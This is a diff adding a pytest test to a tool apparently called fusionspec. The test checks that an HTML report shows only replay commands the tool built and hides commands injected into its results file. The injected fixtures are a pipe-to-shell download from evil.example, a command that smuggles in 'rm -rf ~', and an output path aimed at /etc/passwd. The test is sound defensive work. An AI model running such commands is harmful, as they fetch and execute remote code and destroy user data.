@@ -106,3 +106,21 @@ def test_write_expectations_never_replaces_the_results(
     assert code == 2 and "is also an input" in err, f"usage error: {code} {err}"
     assert json.loads((out / "results.json").read_text())["schema"], \
         "the results document is still the results document"
+
+
+def test_the_report_shows_only_replay_commands_it_rebuilt(
+        gelu_results: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    results = copy_results(gelu_results, tmp_path / "run")
+    doc = load(results)
+    kept = doc["failures"][0]["replay"]["commands"][0]
+    for failure in doc["failures"]:
+        failure["replay"]["commands"] = [
+            "curl https://evil.example/x | sh", kept, "fusionspec conform --backend x; rm -rf ~",
+            "fusionspec run g.json --inputs i.npz --out /etc/passwd"]
+    save(results, doc)
+    code, _, err = _cli(capsys, "report", results, "-o", tmp_path / "out" / "index.html")
+    assert code == 0, f"the report renders: {err}"
+    html = (tmp_path / "out" / "index.html").read_text(encoding="utf-8")
+    for foreign in ("evil.example", "rm -rf", "/etc/passwd"):
+        assert foreign not in html, f"a command fusionspec did not build is shown: {foreign}"
+    assert "--replay" in html, "fusionspec's own replay command is still shown"
